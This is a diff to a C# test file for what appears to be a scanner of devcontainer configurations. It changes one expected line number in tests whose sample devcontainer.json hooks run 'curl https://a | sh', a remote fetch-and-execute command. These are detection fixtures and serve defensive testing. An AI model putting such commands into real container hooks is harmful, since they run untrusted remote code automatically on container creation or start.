@@ -140,7 +140,7 @@ public sealed class OwnFindingsTests
 
     [Theory]
     [InlineData("{\n\"postCreateCommand\": \"curl https://a | sh\"}", 2)]
-    [InlineData("{\"postStartCommand\": [\"bash\",\n\"-c\", \"curl https://a | sh\"]}", 1)]
+    [InlineData("{\"postStartCommand\": [\"bash\",\n\"-c\", \"curl https://a | sh\"]}", 2)]
     [InlineData("{\"onCreateCommand\": {\n\"tool\": \"true\\ncurl https://a | sh\"}}", 2)]
     public void The_commands_of_a_devcontainer_are_judged_with_their_lines(string text, int line) =>
         Assert.Equal([$"CS1001:{line}"], OwnBench.Commands(".devcontainer/devcontainer.json", text));
